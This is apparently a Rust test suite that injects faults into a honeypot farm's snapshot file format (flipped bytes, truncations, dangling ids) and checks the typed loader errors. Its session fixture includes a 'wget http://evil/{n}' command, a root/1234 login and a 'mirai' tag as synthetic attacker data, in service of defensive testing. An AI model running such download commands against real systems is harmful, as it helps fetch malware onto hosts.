//! Fault-injection suite for the hfstore loader: flip bytes, truncate
//! sections, plant dangling ids — every corruption must surface as the
//! right typed [`SnapshotError`], never a panic or a silent mis-read.

use honeyfarm::farm::snapshot::{FORMAT_VERSION, MAGIC, SECTIONS};
use honeyfarm::farm::{
    FarmPlan, SessionStore, Snapshot, SnapshotError, SnapshotMeta, SnapshotReader, TagDb,
};
use honeyfarm::geo::Ip4;
use honeyfarm::hash::Sha256;
use honeyfarm::honeypot::{EndReason, LoginAttempt, SessionRecord};
use honeyfarm::proto::creds::Credentials;
use honeyfarm::proto::Protocol;
use honeyfarm::shell::CommandRecord;
use honeyfarm::simclock::SimInstant;

/// Header size: magic + version + section count.
const HEADER: usize = 8 + 4 + 4;
/// Per-section frame: id (u32) + len (u64) + sha-256 (32 bytes).
const FRAME: usize = 4 + 8 + 32;
/// Rows-section prologue: n_rows (u64) + rows_per_chunk (u32) + n_chunks (u32).
const ROWS_PROLOGUE: usize = 8 + 4 + 4;
/// Per-chunk header: row count (u32) + chunk-data sha-256.
const CHUNK_HEADER: usize = 4 + 32;
/// Encoded row width.
const ROW: usize = 48;

fn record(n: u64) -> SessionRecord {
    SessionRecord {
        honeypot: (n % 221) as u16,
        protocol: Protocol::Ssh,
        client_ip: Ip4::new(16, 0, n as u8, 1),
        client_port: 40_000,
        start: SimInstant::from_day_and_secs((n % 7) as u32, 60 * n as u32),
        duration_secs: 30,
        ended_by: EndReason::ClientClose,
        ssh_client_version: Some("SSH-2.0-Go".into()),
        logins: vec![LoginAttempt {
            creds: Credentials::new("root", "1234"),
            accepted: true,
        }],
        commands: vec![CommandRecord {
            input: format!("wget http://evil/{n}"),
            known: true,
        }],
        uris: vec![format!("http://evil/{n}")],
        file_hashes: vec![Sha256::digest(&n.to_le_bytes())],
        download_hashes: vec![Sha256::digest(&n.to_be_bytes())],
    }
}

/// A small but fully-populated snapshot serialized to bytes.
fn snapshot_bytes() -> Vec<u8> {
    let mut store = SessionStore::new();
    let mut tags = TagDb::new();
    for n in 0..8 {
        let r = record(n);
        for h in r.file_hashes.iter().chain(r.download_hashes.iter()) {
            tags.record(*h, "mirai", "H1");
        }
        store.ingest(&r, None);
    }
    let snap = Snapshot {
        meta: SnapshotMeta {
            seed: 1,
            scale_volume: 0.001,
            scale_hashes: 0.03,
            days: 7,
            n_clients: 8,
        },
        plan: FarmPlan::paper(),
        sessions: store,
        tags,
    };
    let mut bytes = Vec::new();
    snap.write_to(&mut bytes).expect("write snapshot");
    bytes
}

fn load(bytes: &[u8]) -> Result<Snapshot, SnapshotError> {
    Snapshot::read_from(&mut &bytes[..])
}

/// Walk the section frames, returning `(payload_start, payload_len)` per
/// section in file order.
fn section_spans(bytes: &[u8]) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let mut off = HEADER;
    for _ in SECTIONS {
        let len =
            u64::from_le_bytes(bytes[off + 4..off + 12].try_into().expect("len field")) as usize;
        spans.push((off + FRAME, len));
        off += FRAME + len;
    }
    assert_eq!(off, bytes.len(), "walk must cover the whole file");
    spans
}

/// Re-stamp a section's checksum after deliberately editing its payload
/// (to reach validation layers deeper than the checksum).
fn restamp(bytes: &mut [u8], payload_start: usize, payload_len: usize) {
    let digest = Sha256::digest(&bytes[payload_start..payload_start + payload_len]);
    bytes[payload_start - 32..payload_start].copy_from_slice(&digest.0);
}

/// Walk a rows payload's chunks, returning each chunk's header offset and
/// row count.
fn rows_chunks(bytes: &[u8], start: usize) -> Vec<(usize, usize)> {
    let n_chunks = u32::from_le_bytes(bytes[start + 12..start + 16].try_into().unwrap()) as usize;
    let mut chunks = Vec::with_capacity(n_chunks);
    let mut off = start + ROWS_PROLOGUE;
    for _ in 0..n_chunks {
        let rows = u32::from_le_bytes(bytes[off..off + 4].try_into().unwrap()) as usize;
        chunks.push((off, rows));
        off += CHUNK_HEADER + rows * ROW;
    }
    chunks
}

/// Re-stamp the rows section after deliberately editing chunk data: each
/// chunk's digest covers its row bytes, and the section checksum covers the
/// chunk manifest (prologue ‖ per-chunk headers) — both must be recomputed
/// to reach the semantic row validators underneath.
fn restamp_rows(bytes: &mut [u8], start: usize, len: usize) {
    for (off, rows) in rows_chunks(bytes, start) {
        let data = off + CHUNK_HEADER;
        let digest = Sha256::digest(&bytes[data..data + rows * ROW]);
        bytes[off + 4..off + CHUNK_HEADER].copy_from_slice(&digest.0);
    }
    let mut manifest = bytes[start..start + ROWS_PROLOGUE].to_vec();
    let mut end = start + ROWS_PROLOGUE;
    for (off, rows) in rows_chunks(bytes, start) {
        manifest.extend_from_slice(&bytes[off..off + CHUNK_HEADER]);
        end = off + CHUNK_HEADER + rows * ROW;
    }
    assert_eq!(end, start + len, "chunk walk must cover the payload");
    let digest = Sha256::digest(&manifest);
    bytes[start - 32..start].copy_from_slice(&digest.0);
}

/// Rebuild the rows section with a different `rows_per_chunk`, re-splitting
/// the same row data into more chunks (the writer always uses the default;
/// the reader must honor whatever a valid file declares).
fn rechunk_rows(bytes: &[u8], rows_per_chunk: usize) -> Vec<u8> {
    let spans = section_spans(bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    let n_rows = u64::from_le_bytes(bytes[start..start + 8].try_into().unwrap()) as usize;
    let mut data = Vec::with_capacity(n_rows * ROW);
    for (off, rows) in rows_chunks(bytes, start) {
        data.extend_from_slice(&bytes[off + CHUNK_HEADER..off + CHUNK_HEADER + rows * ROW]);
    }
    assert_eq!(data.len(), n_rows * ROW);

    let n_chunks = n_rows.div_ceil(rows_per_chunk);
    let mut payload = Vec::new();
    payload.extend_from_slice(&(n_rows as u64).to_le_bytes());
    payload.extend_from_slice(&(rows_per_chunk as u32).to_le_bytes());
    payload.extend_from_slice(&(n_chunks as u32).to_le_bytes());
    for chunk in data.chunks(rows_per_chunk * ROW) {
        payload.extend_from_slice(&((chunk.len() / ROW) as u32).to_le_bytes());
        payload.extend_from_slice(&Sha256::digest(chunk).0);
        payload.extend_from_slice(chunk);
    }

    let mut out = bytes[..start - FRAME].to_vec();
    out.extend_from_slice(&bytes[start - FRAME..start - FRAME + 4]); // section id
    out.extend_from_slice(&(payload.len() as u64).to_le_bytes());
    out.extend_from_slice(&[0u8; 32]); // checksum stamped below
    let new_start = out.len();
    out.extend_from_slice(&payload);
    out.extend_from_slice(&bytes[start + len..]);
    restamp_rows(&mut out, new_start, payload.len());
    out
}

#[test]
fn pristine_snapshot_loads() {
    let bytes = snapshot_bytes();
    let snap = load(&bytes).expect("pristine snapshot must load");
    assert_eq!(snap.sessions.len(), 8);
    // 8 file + 8 download hashes, but n = 0 encodes identically in LE and
    // BE so its pair collapses to one digest.
    assert_eq!(snap.tags.len(), 15);
}

#[test]
fn bad_magic_is_rejected() {
    let mut bytes = snapshot_bytes();
    bytes[0] ^= 0xff;
    match load(&bytes) {
        Err(SnapshotError::BadMagic { found }) => assert_ne!(found, MAGIC),
        other => panic!("expected BadMagic, got {other:?}"),
    }
}

#[test]
fn version_mismatch_is_rejected() {
    let mut bytes = snapshot_bytes();
    bytes[8..12].copy_from_slice(&99u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::UnsupportedVersion { found, supported }) => {
            assert_eq!(found, 99);
            assert_eq!(supported, FORMAT_VERSION);
        }
        other => panic!("expected UnsupportedVersion, got {other:?}"),
    }
}

#[test]
fn flipped_byte_in_every_section_is_caught_by_its_checksum() {
    let pristine = snapshot_bytes();
    let spans = section_spans(&pristine);
    assert_eq!(spans.len(), SECTIONS.len());
    for (i, &(start, len)) in spans.iter().enumerate() {
        let (_, name) = SECTIONS[i];
        assert!(len > 0, "section {name} must have a payload to corrupt");
        let mut bytes = pristine.clone();
        bytes[start + len / 2] ^= 0x40;
        match load(&bytes) {
            // The rows payload is chunked; a mid-payload flip lands in
            // chunk data and is blamed on that chunk, not the section.
            Err(SnapshotError::ChunkChecksumMismatch { section, .. }) if name == "rows" => {
                assert_eq!(section, "rows");
            }
            Err(SnapshotError::ChecksumMismatch { section }) if name != "rows" => {
                assert_eq!(section, name, "flip in {name} blamed on {section}");
            }
            other => panic!("flip in {name}: expected a checksum mismatch, got {other:?}"),
        }
    }
}

#[test]
fn truncation_anywhere_is_a_typed_error() {
    let pristine = snapshot_bytes();
    // Cut the file at a spread of boundaries: inside the header, inside
    // each section frame, inside each payload, and just before the end.
    let mut cuts = vec![0, 1, HEADER - 1, HEADER, pristine.len() - 1];
    for &(start, len) in &section_spans(&pristine) {
        cuts.push(start - FRAME + 2); // mid section-id
        cuts.push(start - 20); // mid checksum
        cuts.push(start + len / 2); // mid payload
    }
    for cut in cuts {
        let bytes = &pristine[..cut];
        match load(bytes) {
            Err(SnapshotError::Truncated { .. }) => {}
            other => panic!(
                "cut at {cut}/{}: expected Truncated, got {other:?}",
                pristine.len()
            ),
        }
    }
}

#[test]
fn unexpected_section_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    // Overwrite the first section's id (META = 1) with a stranger.
    bytes[HEADER..HEADER + 4].copy_from_slice(&42u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::UnexpectedSection { expected, found }) => {
            assert_eq!(expected, 1);
            assert_eq!(found, 42);
        }
        other => panic!("expected UnexpectedSection, got {other:?}"),
    }
}

#[test]
fn dangling_ssh_version_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // Rows payload: prologue, then per-chunk [header ‖ 48-byte rows];
    // ssh_version_id sits at row offset 24. Point it far past the pool and
    // re-stamp the chunk + section checksums so only the semantic validator
    // can object.
    let field = start + ROWS_PROLOGUE + CHUNK_HEADER + 24;
    bytes[field..field + 4].copy_from_slice(&0x7fff_fff0u32.to_le_bytes());
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "ssh_version");
            assert_eq!(id, 0x7fff_fff0);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn dangling_list_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // login_list_id sits at row offset 28.
    let field = start + ROWS_PROLOGUE + CHUNK_HEADER + 28;
    bytes[field..field + 4].copy_from_slice(&0x00ff_ffffu32.to_le_bytes());
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, .. }) => assert_eq!(kind, "list"),
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

/// A resolvable command list whose entry names a command past the pool.
#[test]
fn dangling_command_id_is_rejected() {
    let mut list_id = 0;
    let mut bytes = with_lists(|lists| {
        list_id = lists.len() as u32;
        lists.push(vec![u32::MAX - 1]);
    });
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // cmd_list_id sits at row offset 32.
    let field = start + ROWS_PROLOGUE + CHUNK_HEADER + 32;
    bytes[field..field + 4].copy_from_slice(&list_id.to_le_bytes());
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "command");
            assert_eq!(id, (u32::MAX - 1) >> 1);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn corrupt_row_enum_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // protocol byte sits at row offset 22.
    bytes[start + ROWS_PROLOGUE + CHUNK_HEADER + 22] = 9;
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

#[test]
fn lying_interior_length_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let creds_idx = SECTIONS.iter().position(|(_, n)| *n == "creds").unwrap();
    let (start, len) = spans[creds_idx];
    // First string's length field (after the u32 pool count): claim more
    // bytes than the payload holds.
    bytes[start + 4..start + 8].copy_from_slice(&u32::MAX.to_le_bytes());
    restamp(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "creds"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Chunk-granular faults in the streaming rows section.

/// A flipped byte inside chunk data is blamed on that exact chunk.
#[test]
fn flipped_chunk_data_names_the_chunk() {
    // Re-chunk to 3 rows/chunk (8 rows → chunks of 3, 3, 2) so a non-zero
    // chunk index is reachable.
    let bytes = rechunk_rows(&snapshot_bytes(), 3);
    load(&bytes).expect("re-chunked snapshot must load");
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    for (i, &(off, rows)) in rows_chunks(&bytes, start).iter().enumerate() {
        let mut corrupted = bytes.clone();
        corrupted[off + CHUNK_HEADER + (rows * ROW) / 2] ^= 0x01;
        match load(&corrupted) {
            Err(SnapshotError::ChunkChecksumMismatch { section, chunk }) => {
                assert_eq!(section, "rows");
                assert_eq!(
                    chunk as usize, i,
                    "flip in chunk {i} blamed on chunk {chunk}"
                );
            }
            other => panic!("flip in chunk {i}: expected ChunkChecksumMismatch, got {other:?}"),
        }
    }
}

/// A flipped byte in a chunk's *stored digest* also fails that chunk's
/// verification (the manifest checksum would catch it too, but the chunk
/// check fires first and localizes the damage).
#[test]
fn flipped_chunk_digest_is_caught() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    let (off, _) = rows_chunks(&bytes, start)[0];
    bytes[off + 4] ^= 0x80; // first byte of the chunk digest
    match load(&bytes) {
        Err(SnapshotError::ChunkChecksumMismatch { section, chunk }) => {
            assert_eq!((section, chunk), ("rows", 0));
        }
        other => panic!("expected ChunkChecksumMismatch, got {other:?}"),
    }
}

/// A lying chunk count no longer adds up against the declared row count and
/// payload length; the reader rejects it before reading any chunk.
#[test]
fn lying_chunk_count_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    bytes[start + 12..start + 16].copy_from_slice(&1000u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

/// `rows_per_chunk` outside `1..=MAX_ROWS_PER_CHUNK` is rejected up front —
/// a hostile value can never size an allocation.
#[test]
fn lying_rows_per_chunk_is_rejected() {
    for lie in [0u32, u32::MAX] {
        let mut bytes = snapshot_bytes();
        let spans = section_spans(&bytes);
        let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
        let (start, _) = spans[rows_idx];
        bytes[start + 8..start + 12].copy_from_slice(&lie.to_le_bytes());
        match load(&bytes) {
            Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
            other => panic!("rows_per_chunk={lie}: expected Corrupt, got {other:?}"),
        }
    }
}

/// A dangling id planted in the *last* chunk is still caught: the reader's
/// per-(role, id) validation memo only skips ids that already validated in
/// earlier chunks, and the prefetching fold delivers the error in chunk
/// order after the clean chunks before it.
#[test]
fn dangling_id_in_a_later_chunk_is_rejected() {
    let mut bytes = rechunk_rows(&snapshot_bytes(), 3);
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    let &(off, _) = rows_chunks(&bytes, start).last().unwrap();
    // login_list_id of the final chunk's first row (row offset 28).
    let field = off + CHUNK_HEADER + 28;
    bytes[field..field + 4].copy_from_slice(&0x00ff_fffeu32.to_le_bytes());
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "list");
            assert_eq!(id, 0x00ff_fffe);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

/// Truncation exactly at a chunk boundary (a valid prefix of chunks, then
/// nothing) is a typed truncation error, not a short read of partial data.
#[test]
fn truncation_at_chunk_boundary_is_typed() {
    let bytes = rechunk_rows(&snapshot_bytes(), 3);
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    for &(off, rows) in &rows_chunks(&bytes, start)[1..] {
        // Cut right where this chunk's header should begin, and again right
        // after its header (header read OK, data missing).
        for cut in [off, off + CHUNK_HEADER, off + CHUNK_HEADER + rows * ROW - 1] {
            match load(&bytes[..cut]) {
                Err(SnapshotError::Truncated { .. }) => {}
                other => panic!("cut at {cut}: expected Truncated, got {other:?}"),
            }
        }
    }
}

#[test]
fn empty_input_is_truncated_header() {
    match load(&[]) {
        Err(SnapshotError::Truncated { section }) => assert_eq!(section, "header"),
        other => panic!("expected Truncated header, got {other:?}"),
    }
}

#[test]
fn garbage_input_is_bad_magic() {
    let garbage = [0xA5u8; 64];
    match load(&garbage) {
        Err(SnapshotError::BadMagic { .. }) => {}
        other => panic!("expected BadMagic, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// List-pool faults: the duplicate and empty-list checks behind the lists
// section's checksum.

/// Decode the lists payload into its lists, in id order.
fn decode_lists(payload: &[u8]) -> Vec<Vec<u32>> {
    let word = |at: usize| u32::from_le_bytes(payload[at..at + 4].try_into().unwrap());
    let mut off = 4;
    let lists = (0..word(0))
        .map(|_| {
            let len = word(off) as usize;
            let list = (0..len).map(|k| word(off + 4 + 4 * k)).collect();
            off += 4 + 4 * len;
            list
        })
        .collect();
    assert_eq!(off, payload.len(), "list walk must cover the payload");
    lists
}

/// The snapshot with its lists section re-encoded after `edit`, with the
/// section length and checksum re-stamped so the loader reaches the
/// pool's own validation.
fn with_lists(edit: impl FnOnce(&mut Vec<Vec<u32>>)) -> Vec<u8> {
    let bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let lists_idx = SECTIONS.iter().position(|(_, n)| *n == "lists").unwrap();
    let (start, len) = spans[lists_idx];
    let mut lists = decode_lists(&bytes[start..start + len]);
    edit(&mut lists);
    let mut payload = (lists.len() as u32).to_le_bytes().to_vec();
    for list in &lists {
        payload.extend_from_slice(&(list.len() as u32).to_le_bytes());
        for v in list {
            payload.extend_from_slice(&v.to_le_bytes());
        }
    }
    let mut out = bytes[..start - 32 - 8].to_vec();
    out.extend_from_slice(&(payload.len() as u64).to_le_bytes());
    out.extend_from_slice(&[0; 32]);
    out.extend_from_slice(&payload);
    out.extend_from_slice(&bytes[start + len..]);
    restamp(&mut out, start, payload.len());
    out
}

/// Both loaders — the materializing read and the streaming open — must
/// reject `bytes` as a corrupt lists section.
fn assert_lists_corrupt(bytes: &[u8], what: &str) {
    match load(bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "lists", "{what}"),
        other => panic!("{what}: expected Corrupt lists from read, got {other:?}"),
    }
    match SnapshotReader::open(bytes).err() {
        Some(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "lists", "{what}"),
        other => panic!("{what}: expected Corrupt lists from open, got {other:?}"),
    }
}

#[test]
fn re_encoded_lists_section_still_loads() {
    let bytes = with_lists(|_| {});
    assert_eq!(bytes, snapshot_bytes());
    assert!(SnapshotReader::open(&bytes[..]).is_ok());
}

#[test]
fn repeated_list_is_rejected() {
    let bytes = with_lists(|lists| {
        assert!(lists.len() > 3);
        let last = lists.len() - 1;
        lists[last] = lists[1].clone();
    });
    assert_lists_corrupt(&bytes, "repeated list");
}

#[test]
fn non_empty_list_zero_is_rejected() {
    // A value no other list holds, so only the id-0 rule can fire.
    let bytes = with_lists(|lists| lists[0] = vec![u32::MAX - 1]);
    assert_lists_corrupt(&bytes, "non-empty list 0");
}

#[test]
fn empty_list_past_id_zero_is_rejected() {
    let bytes = with_lists(|lists| lists.push(Vec::new()));
    assert_lists_corrupt(&bytes, "empty list at id > 0");
}
